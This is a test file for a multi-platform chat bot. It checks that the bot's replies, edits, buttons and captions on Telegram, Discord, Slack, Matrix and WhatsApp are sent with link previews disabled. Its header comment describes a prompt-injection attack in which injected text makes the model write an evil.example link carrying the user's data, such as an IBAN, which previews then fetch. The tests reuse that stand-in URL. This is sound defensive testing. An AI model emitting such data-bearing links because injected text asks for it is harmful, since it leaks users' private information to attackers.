/**
 * Link previews as a way out for data: injected text (a fetched page, a
 * group member's message) tells the model to write a link carrying what the
 * conversation or the person's notes hold, `https://evil.example/?d=<IBAN>`.
 * A platform that previews links fetches it from its own servers as the
 * message is posted (or, on Matrix, as a client shows it), nobody clicking:
 * the data leaves. The bot's messages go out with previews off on every
 * channel that has a switch — replies, streamed edits, buttons, captions,
 * command answers and click answers — unless the operator set
 * `linkPreviews: true` on that channel. Each channel's real client talks to
 * its fake, which records what the platform would preview.
 */
import { describe, expect, it } from 'vitest';
import { createDiscordPlugin } from '../../plugins/discord/channel.js';
import { createMatrixPlugin } from '../../plugins/matrix/channel.js';
import { createSlackPlugin } from '../../plugins/slack/channel.js';
import { createTelegramPlugin } from '../../plugins/telegram/channel.js';
import { createWhatsAppPlugin } from '../../plugins/whatsapp/channel.js';
import type { ChannelPlugin } from '../../src/channel.js';
import { FakeDiscord } from '../../testing/fakes/discord-server.js';
import { type FakeMatrix, MATRIX_ALICE, MATRIX_TEST, previewsLinks, startFakeMatrix } from '../../testing/fakes/matrix-server.js';
import { SLACK_BOT_TOKEN, startFakeSlack } from '../../testing/fakes/slack-server.js';
import { ALICE, callbackQueryUpdate, FAKE_TOKEN, messageUpdate, startFakeTelegram } from '../../testing/fakes/telegram-server.js';
import { startFakeWhatsApp, WHATSAPP_TEST } from '../../testing/fakes/whatsapp-server.js';
import { TOKEN } from '../channels/discord-harness.js';
import { postUpdate, startTelegramSystem } from '../channels/telegram-harness.js';
import { deliverEveryKind, discordConversation, EXFIL_URL, optionWith, questionIdIn, scriptInjected, useInjectedWorld } from './injected-replies.js';

const w = useInjectedWorld();
const target = (plugin: ChannelPlugin, conversationId: string) => ({
  outbound: plugin.outbound,
  redis: w.h.ctx.redis,
  prefix: w.h.prefix,
  conversationId,
  logger: w.h.ctx.logger,
});
const deps = () => ({ logger: w.h.ctx.logger, redis: w.h.ctx.redis, prefix: w.h.prefix });

describe('link previews of the bot’s messages', () => {
  it('Telegram: a reply, its streamed edits, buttons, a command’s answer and a click’s edit go out with previews off', async () => {
    const SECRET = 'previews_secret_0123456789';
    const tg = await startFakeTelegram();
    w.closers.push(() => tg.close());
    const { http, plugin } = await startTelegramSystem({ h: w.h, tg, secret: SECRET, agent: w.agent(), telegram: { streaming: true } });
    w.closers.push(
      () => http.close(),
      () => plugin.stop(),
    );
    const say = async (text: string) => expect(await postUpdate(http, SECRET, messageUpdate({ text, from: ALICE, chatId: ALICE.id }))).toBe(200);
    const nth = async (n: number, what: string) => (await tg.waitUntil(() => tg.sent.length >= n && tg.sent, 15_000, what))[n - 1]!;

    scriptInjected(w.ai, EXFIL_URL);
    await say('tidy up my notes');
    const question = await nth(1, 'the question');
    const id = questionIdIn(question.buttons?.[1]?.data ?? '');
    expect(await postUpdate(http, SECRET, callbackQueryUpdate({ data: `/choose ${id} 2`, message: question, from: ALICE }))).toBe(200);
    await nth(2, 'the answer');
    await w.h.idle(15_000, `telegram:${ALICE.id}`);
    // Typed again: the host answers in plain text, naming the option chosen.
    await say(`/choose ${id} 2`);
    expect((await nth(3, "the command's answer")).text).toContain(`Already answered: ${optionWith(EXFIL_URL)} was chosen`);
    await deliverEveryKind(target(plugin, 'telegram:1002'), EXFIL_URL);

    // The click edited the question to the choice: the option's link is in it.
    expect(tg.sent[0]!.edits.at(-1)).toContain(`${optionWith(EXFIL_URL)} (chosen by`);
    const texts = tg.calls.filter((c) => c.outcome === 'ok' && (c.method === 'sendMessage' || c.method === 'editMessageText'));
    expect(texts.filter((c) => c.method === 'editMessageText').length).toBeGreaterThanOrEqual(2);
    for (const c of texts) {
      expect(String(c.payload.text)).toContain('evil.example');
      expect(c.payload.link_preview_options, `${c.method}: ${c.payload.text}`).toEqual({ is_disabled: true });
    }
    expect(tg.sent.filter((m) => m.previews).map((m) => m.text)).toEqual([]);
  });

  it('Discord: a reply, its streamed edits, buttons, a caption, a command’s answer and a click’s update carry SUPPRESS_EMBEDS', async () => {
    const discord = await discordConversation({ h: w.h, ai: w.ai, agent: w.agent(), bait: EXFIL_URL, closers: w.closers });

    expect(discord.interactionResponses.map((r) => (r.data.flags ?? 0) & 4)).toEqual([4, 4]);
    const bodies = discord.calls.filter((c) => c.status === 200 && /^\/channels\/\d+\/messages(\/\d+)?$/.test(c.path) && c.method !== 'GET');
    expect(bodies.filter((c) => c.method === 'PATCH').length).toBeGreaterThanOrEqual(1);
    for (const c of bodies) expect((c.body.flags ?? 0) & 4, `${c.method} ${c.body.content}`).toBe(4);
    expect([...discord.messages.values()].filter((m) => m.embeds).map((m) => m.content)).toEqual([]);
  });

  it('Slack: every message the bot posts, streamed ones and those with buttons, goes with unfurl_links and unfurl_media off', async () => {
    const slack = await startFakeSlack();
    w.closers.push(() => slack.close());
    const plugin = createSlackPlugin({ botToken: SLACK_BOT_TOKEN, signingSecret: 'x'.repeat(32), apiUrl: slack.apiUrl }, deps());
    await deliverEveryKind(target(plugin, 'slack:D0000PRV1'), EXFIL_URL);

    expect(slack.messages.length).toBeGreaterThanOrEqual(3);
    for (const m of slack.messages) {
      expect(m.text).toContain('evil.example');
      expect(m.unfurls, m.text).toEqual({ links: false, media: false });
    }
  });

  it('Matrix: a reply, its streamed edits, buttons, a caption and a command’s answer say they have no previews (MSC4095)', async () => {
    const matrix = await startFakeMatrix();
    w.closers.push(() => matrix.close());
    const room = matrix.createRoom([MATRIX_TEST.userId, MATRIX_ALICE]);
    const plugin = createMatrixPlugin({ ...MATRIX_TEST, homeserverUrl: matrix.url, streaming: true }, deps());
    await deliverEveryKind(target(plugin, `matrix:${room}`), EXFIL_URL);

    const messages = matrix.sent.filter((e) => e.type === 'm.room.message');
    expect(messages.filter((e) => e.content['m.relates_to']?.rel_type === 'm.replace').length).toBeGreaterThanOrEqual(1);
    for (const e of messages) {
      expect(JSON.stringify(e.content)).toContain('evil.example');
      expect(previewsLinks(e.content), JSON.stringify(e.content)).toBe(false);
      // An edit is shown by its new content: that says so too.
      if (e.content['m.new_content']) expect(previewsLinks(e.content['m.new_content'])).toBe(false);
    }
  });

  it('turns previews on only on a channel whose operator set linkPreviews: true', async () => {
    const tg = await startFakeTelegram();
    const slack = await startFakeSlack();
    const discord = await FakeDiscord.start({ token: TOKEN });
    const wa = await startFakeWhatsApp();
    const matrix: FakeMatrix = await startFakeMatrix();
    w.closers.push(
      () => tg.close(),
      () => slack.close(),
      () => discord.close(),
      () => wa.close(),
      () => matrix.close(),
    );
    const room = matrix.createRoom([MATRIX_TEST.userId, MATRIX_ALICE]);
    const plugins = (linkPreviews: boolean) => ({
      telegram: createTelegramPlugin({ token: FAKE_TOKEN, apiRoot: tg.apiRoot, registerCommands: false, linkPreviews }, deps()),
      slack: createSlackPlugin({ botToken: SLACK_BOT_TOKEN, signingSecret: 'x'.repeat(32), apiUrl: slack.apiUrl, linkPreviews }, deps()),
      discord: createDiscordPlugin({ token: TOKEN, apiBase: discord.apiBase, linkPreviews }, deps()),
      whatsapp: createWhatsAppPlugin({ ...WHATSAPP_TEST, graphApiUrl: wa.graphUrl, linkPreviews }, deps()),
      matrix: createMatrixPlugin({ ...MATRIX_TEST, homeserverUrl: matrix.url, linkPreviews }, deps()),
    });
    const conversations = {
      telegram: 'telegram:1001',
      slack: 'slack:D0000PRV1',
      discord: 'discord:520000000000000089',
      whatsapp: 'whatsapp:15550001111',
      matrix: `matrix:${room}`,
    };
    for (const on of [false, true]) {
      for (const [name, plugin] of Object.entries(plugins(on))) {
        await plugin.outbound.send(conversations[name as keyof typeof conversations], `${name} ${on ? 'on' : 'off'}: ${EXFIL_URL}`, { format: 'markdown' });
      }
    }

    const previewed = {
      telegram: tg.sent.map((m) => m.previews),
      slack: slack.messages.map((m) => m.unfurls?.links === true && m.unfurls.media),
      discord: [...discord.messages.values()].map((m) => m.embeds),
      whatsapp: wa.sent.map((m) => m.previewUrl),
      matrix: matrix.sent.map((e) => previewsLinks(e.content)),
    };
    const both = [false, true];
    expect(previewed).toEqual({ telegram: both, slack: both, discord: both, whatsapp: both, matrix: both });
  });
});
